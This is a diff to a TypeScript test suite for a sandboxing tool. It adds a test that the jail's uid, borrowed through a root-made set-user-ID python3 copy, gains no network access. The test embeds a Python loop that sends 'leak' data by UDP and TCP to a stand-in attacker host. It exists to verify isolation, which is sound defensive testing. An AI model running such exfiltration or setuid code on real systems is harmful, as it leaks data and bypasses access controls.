@@ -352,6 +352,46 @@ const laterOutside = async (t: Test, { lab, run }: Bench) => {
   await holder.ended
 }
 
+/** Sends to the attacker for ever, by UDP and TCP; says whose it is. */
+const sending = `import os, socket, time
+print('as', os.getuid(), os.geteuid(), flush=True)
+while True:
+  for kind, to in ((2, ('${evil.v4}', 443)), (1, ('${evil.v4}', 443)), (1, ('${evil.v6}', 443, 0, 0))):
+    s = socket.socket(10 if len(to) > 2 else 2, kind); s.settimeout(1)
+    try:
+      s.connect(to); s.send(b'leak')
+    except OSError: pass
+    s.close()
+  time.sleep(0.01)`
+
+/**
+ * Another user's process that has the jail's uid as its effective one alone, by a set-user-ID file that root made (no jail
+ * can): it is no process of the jail's, and has no more network than that has, before, in, and after a run.
+ */
+const borrowed = async (t: Test, { lab, run, prefix }: Bench) => {
+  const uid = Number((await run(['id', '-u'])).stdout)
+  const file = '/srv/as-the-jail'
+  const make = `cp "$(readlink -f "$(command -v python3)")" ${file} && chown ${uid} ${file} && chmod 4755 ${file}`
+  t.equal((await lab.run(['sh', '-c', make])).code, 0)
+  const other = 4711
+  const as = ['setpriv', `--reuid=${other}`, `--regid=${other}`, '--clear-groups', '--', file]
+  await lab.capture.clear()
+  const program = lab.spawn([...as, '-c', sending], { timeout: 60_000 })
+  t.match(await program.until(/as \d+ \d+/), new RegExp(`as ${other} ${uid}`))
+  const jail = lab.spawnAgentjail([...prefix, '--', 'sh', '-c', 'echo up; sleep 1; exit 7'], {
+    cwd: work,
+    timeout: 60_000,
+  })
+  await jail.until(/up/)
+  const { code, stderr } = await jail.ended
+  t.equal(code, 7, `a jail starts and ends beside it: ${stderr}`)
+  t.ok(program.pid(), 'which is nobody of its own, and goes on')
+  t.same(await lab.capture.packets(stray), [], 'nothing on the wire')
+  program.kill('SIGKILL')
+  await program.ended
+  await lab.run(['rm', file])
+}
+
 /** A daemon that clears its own death signal and sends for ever: gone with the launcher, however that ends. */
 const outliving = async (t: Test, { lab, prefix }: Bench) => {
   const daemon = `use Socket; fork and do { $| = 1; print "up\n"; sleep 60; exit }; setpgrp; syscall(157, 1, 0, 0, 0, 0); fork and exit; socket(U, 2, 2, 0);
@@ -508,6 +548,7 @@ for (const isolation of ['namespace', 'uid'] as const) {
       ['from outside to the command', inbound],
       ['programs with privilege', privileged],
       ['the uid without its jail', laterOutside],
+      ["the jail's uid as another user's effective one", borrowed],
       ['what outlives the launcher', outliving],
       ["another tool's flush of the firewall", flushed],
       ['files, environments, descriptors and the caller', secrets],
